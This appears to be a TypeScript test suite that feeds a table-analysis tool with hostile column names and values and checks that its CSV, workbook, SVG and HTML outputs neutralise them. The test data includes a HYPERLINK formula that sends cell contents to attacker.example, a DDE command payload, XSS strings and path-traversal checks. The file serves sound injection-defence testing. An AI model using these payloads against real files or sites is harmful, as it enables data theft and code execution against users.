import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import ExcelJS from 'exceljs';
import { analyseTable } from './run-analysis.ts';

/** Names and levels that a spreadsheet would run, a browser would run, or a path would follow. */
const names = { factor: '=HYPERLINK("http://attacker.example/?"&A1;"click")', other: '<img src=x onerror=alert(1)>', level: '@brush "a"', target: '+cmd|\' /C calc\'!A0' } as const;
const levels = ['=1+1', '-2+3', '<script>alert(1)</script>'] as const;
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const rows = Array.from({ length: 24 }, (_, i) => [i % 7, (i * 5) % 11, quoted(levels[i % 3] ?? ''), 3 + 2 * (i % 7) - ((i * 5) % 11) + (i % 3) + Math.sin(i)]);
const csv = `${[names.factor, names.other, names.level, names.target].map(quoted).join(',')}\n${rows.map((row) => row.join(',')).join('\n')}\n`;

const grid = `${[names.factor, names.other, names.level].map(quoted).join(',')}\n${levels.map((level, i) => `${i},${i + 1},${quoted(level)}`).join('\n')}\n`;

/** Cells of comma-separated text (RFC 4180). */
function cellsOf(text: string): string[] {
  return [...text.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, inQuotes, plain]) => inQuotes?.replaceAll('""', '"') ?? plain ?? '');
}

describe('a table whose names and values are meant to run somewhere', async () => {
  const { files } = await analyseTable(csv, { target_columns: [names.target], outputs: ['charts', 'workbook', 'data', 'report'] }, { prediction: { fileName: '=cmd.csv', bytes: grid } });
  const of = (kind: RegExp): [string, Buffer][] => [...files].filter(([path]) => kind.test(path));

  test('no cell of a CSV begins like a formula', () => {
    const found = of(/\.csv$/);
    assert.ok(found.length > 0, [...files.keys()].join(' '));
    let seen = 0;
    for (const [path, bytes] of found) {
      for (const cell of cellsOf(bytes.toString('utf8').replace(/^\uFEFF/, ''))) {
        if (/HYPERLINK|1\+1|2\+3|cmd/.test(cell)) seen += 1;
        assert.ok(!/^[=+\-@\t\r]/.test(cell) || Number.isFinite(Number(cell)), `${path}: ${cell}`);
      }
    }
    assert.ok(seen > 3, 'the names are there');
  });

  test('no formula of a workbook holds a name, and no text became a formula or a link', async () => {
    const found = of(/\.xlsx$/);
    assert.ok(found.length > 0);
    let seen = 0;
    for (const [path, bytes] of found) {
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(bytes as unknown as ArrayBuffer);
      for (const sheet of book.worksheets) {
        assert.ok(!/[<>=@"']/.test(sheet.name), `${path}: ${sheet.name}`);
        sheet.eachRow((row) => row.eachCell((cell) => {
          if (cell.formula !== undefined) assert.ok(!/HYPERLINK|cmd|alert|attacker|DDE/i.test(cell.formula), `${path} ${sheet.name}!${cell.address}: ${cell.formula}`);
          assert.notEqual(cell.type, ExcelJS.ValueType.Hyperlink, `${path} ${sheet.name}!${cell.address}`);
          if (typeof cell.value === 'string' && cell.value.includes('HYPERLINK')) seen += 1;
        }));
      }
    }
    assert.ok(seen > 0, 'the names are there');
  });

  test('no page or picture has an element or attribute of theirs', () => {
    const found = of(/\.(svg|html)$/);
    assert.ok(found.some(([path]) => path.endsWith('.svg')), [...files.keys()].join(' '));
    assert.ok(found.some(([path]) => path.endsWith('.html')));
    for (const [path, bytes] of found) {
      const text = bytes.toString('utf8');
      assert.ok(!/<script|<img src=x|\sonerror=alert\(1\)>/i.test(text.replaceAll(/&lt;[^<>]*&gt;/g, '')), `${path}: ${/.{40}(?:<script|<img src=x).{40}/i.exec(text)?.[0]}`);
      assert.ok(!/(?:href|src)\s*=\s*["']?(?:javascript:|http:\/\/attacker)/i.test(text), path);
    }
  });

  test('no path leaves its folder or needs another name on another system', () => {
    for (const path of files.keys()) assert.ok(!/(^|\/)\.\.?(\/|$)|^\/|[<>:"|?*\\\u0000-\u001f]/.test(path), path);
  });
});
